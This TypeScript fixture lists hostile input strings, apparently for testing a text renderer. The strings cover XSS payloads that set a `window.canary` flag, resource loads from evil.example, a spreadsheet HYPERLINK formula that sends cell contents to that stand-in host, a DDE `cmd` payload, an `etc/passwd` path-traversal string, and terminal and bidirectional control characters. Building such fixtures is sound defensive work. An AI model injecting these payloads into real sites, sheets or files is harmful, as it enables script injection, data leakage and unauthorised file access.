/**
 * Texts by which somebody may try to be more than text: what would set `window.canary` or ask another host wherever something took it
 * for markup, what turns the direction of its neighbours, and what hides or breaks a reader.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
	script: '<script>window.canary=1</script>',
	image: '<img src=x onerror="window.canary=1">',
	svg: '<svg onload="window.canary=1"><foreignObject><iframe srcdoc="<script>parent.canary=1</script>"></iframe></foreignObject></svg>',
	mutation: '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.canary=1>',
	links:
		'[press](javascript:window.canary=1) ![](https://evil.example/x.png) <a href="data:text/html,<script>1</script>">x</a>',
	attribute: '"><style>@import url(https://evil.example/x.css);</style>${window.canary=1}{@html 1}',
	ending: '</script></style></textarea></title>--><script>window.canary=1</script>',
	entities: '&lt;img src=x onerror=window.canary=1&gt;&#60;script&#62;window.canary=1',
	latex:
		'$\\href{javascript:window.canary=1}{x}$ \\(\\includegraphics{https://evil.example/a.png}\\) $$\\def\\a{\\a\\a}\\a$$ \\[\\rule{99999em}{99999em}\\]',
	fence: '```"><img src=x onerror=window.canary=1>\n</code></pre><script>window.canary=1</script>\n```',
	table: '| <img src=x onerror=window.canary=1> | b |\n|--|--|\n| <br onclick=window.canary=1> | <br> |',
	direction: '\u202eright to left\u202d\u2066\u2067 never closed \u05d0\u05d1\u0627\u0628',
	unseen: 'a\u200bb\u200dc\u2060d\ufeffe\u00adf',
	terminal: '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b[2J\u001b[1;1H\u0008\u0008\u009b2K\r',
	nothing: 'before\u0000after',
	half: 'half \ud83d of a pair \udc00',
	formula: '=HYPERLINK("https://evil.example/?"&A1,"press")',
	fullWidthFormula: "＝cmd|' /C calc'!A0",
	path: '../../..\\..\\etc/passwd:con.txt',
	stacked: `z${'\u0335\u0336\u0337\u0338'.repeat(40)}`,
	unbroken: 'w'.repeat(300),
};
